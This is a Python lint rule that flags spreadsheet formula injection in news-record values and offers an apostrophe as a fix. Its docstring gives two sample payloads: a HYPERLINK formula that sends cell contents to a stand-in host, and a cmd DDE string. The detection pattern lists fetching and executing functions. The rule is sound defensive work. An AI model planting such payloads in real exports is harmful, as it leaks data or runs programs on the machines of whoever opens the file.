"""A value starts with a formula that a spreadsheet would run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import ClassVar

from pydantic import Field

from newslint import Fix, Problem, Record, Rule
from newslint.rule import Severity
from newslint.text.pattern import pattern
from newslint_rules.quoting import quoted

_FUNCTIONS = """
    ABS AND AVERAGE CALL CELL CHAR CONCAT CONCATENATE COUNT COUNTA DDE EXEC FORMULA GOOGLEFINANCE HYPERLINK IF IFERROR
    IMAGE IMPORTDATA IMPORTFEED IMPORTHTML IMPORTRANGE IMPORTXML INDEX INDIRECT INFO ISERROR LEFT LEN LOOKUP MATCH MAX
    MIN NOT NOW OFFSET OR QUERY REGISTER RIGHT RTD ROUND SUBSTITUTE SUM SUMIF TEXT TODAY VALUE VLOOKUP WEBSERVICE
    XLOOKUP
"""
FUNCTIONS = "|".join(_FUNCTIONS.split())
"""Functions of spreadsheets that formulas start with: own selection, among them all that fetch or run something."""
_STARTS = frozenset("=+-@")
_SUM = r"(?:[\d.]{1,12}\s{0,2}[-+*/]\s{0,2}){0,4}"
_FORMULA = pattern(
    rf"[=+@-]{{1,3}}\s{{0,3}}{_SUM}[+@-]?(?:"
    rf"(?P<function>{FUNCTIONS})\s?\((?=[^\n]{{0,400}}[)\"'])"
    r"|(?P<program>[a-z][a-z0-9_.]{1,30})\|\s{0,3}['\"/]"
    r")"
    r"|=\s{0,3}(?P<any>[a-z][a-z0-9.]{1,30})\((?=[^\n]{0,400}\))"
    r"|=\s{0,3}(?P<cell>\$?[a-z]{1,3}\$?\d{1,6}\s{0,2}(?:[-+*/&:]\s{0,2}\$?[a-z]{1,3}\$?\d{1,6}|$))",
    re.IGNORECASE,
)
_TABLES = (".csv", ".tsv", ".tab", ".psv")
_PACKED = (".gz", ".zst", ".zstd")


class FormulaStart(Rule):
    """A value starts with `=`, `+`, `-` or `@` and would run as a formula when a spreadsheet opens the table.

    Why it matters: whoever opens the export runs the formula, which can send the other cells to a stranger or start a
    program.

    Bad:  {"title": "=HYPERLINK(\\"https://evil.news/?\\"&A1,\\"Read more\\")", "body": "The harbour reopened."}
    Bad:  {"title": "Harbour reopens", "author": "+1+cmd|' /C calc'!A0", "body": "The harbour reopened."}
    Good: {"title": "+++ Harbour reopens +++", "author": "@harbourpost", "phone": "+92 21 111 222", "change": "-5",
           "body": "-- The harbour reopened (again)."}

    Measured: no finding on the development corpus (16 sets, 15,482 records); clean sets: 0 per 1,000 on giveme5w1h_bbc
    and 0 on the hand-checked bodies.

    Traps: tickers ("+++"), phone numbers, negative numbers, handles, dashes before a quotation, underlined headings:
    what follows the sign must be a function with its bracket, a program with its bar, or, behind "=", cells. The fix,
    an apostrophe before the sign, is offered for records from CSV and TSV files.
    """

    name: ClassVar[str] = "formula-start"
    family: ClassVar[str] = "security"
    fixable = "safe"

    severity: Severity = Field(default=Severity.INFO, description="How bad a finding is: error, warning or info.")

    def check(self, record: Record) -> Iterator[Problem]:
        if _STARTS.isdisjoint([value[:1] for value in record.raw_strings()]):
            return
        for place, value in record.strings():
            match = _FORMULA.match(value) if value[:1] in _STARTS else None
            if match:
                fix = Fix.safe(place.part(0, 0), "'") if is_table(record.origin.path) else None
                message = f"a spreadsheet would run {quoted(match.group())} as a formula"
                yield Problem(place.part(0, match.end()), message, fix)


def is_table(path: str) -> bool:
    """Whether a file of the name holds separated values, packed or not."""
    name = path.lower()
    for suffix in _PACKED:
        name = name.removesuffix(suffix)
    return name.endswith(_TABLES)
